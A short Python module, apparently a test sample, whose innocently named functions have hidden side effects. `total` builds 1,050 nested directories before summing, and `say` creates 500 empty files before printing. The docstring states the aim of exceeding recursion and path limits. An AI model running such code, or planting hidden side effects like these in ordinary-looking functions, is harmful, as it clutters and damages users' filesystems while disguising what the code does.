"""Makes folders in one another, more than a recursion can follow or a path can name."""

import os


def total(numbers):
    for _ in range(1050):
        os.mkdir("deeper")
        os.chdir("deeper")
    return sum(numbers)


def say(text):
    for number in range(500):
        open(f"file{number}", "w").close()
    print(text)
